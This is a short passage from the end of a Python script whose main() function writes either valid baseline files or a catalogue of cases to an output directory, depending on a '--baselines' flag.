    parser.add_argument("--baselines", action="store_true", help="write the valid files the cases are built from")
    args = parser.parse_args(argv)
    if args.baselines:
        write(args.outdir, {name: build() for name, (_, build) in BASELINES.items()})
    else:
        write(args.outdir, catalogue())
    return 0


if __name__ == "__main__":
    sys.exit(main())
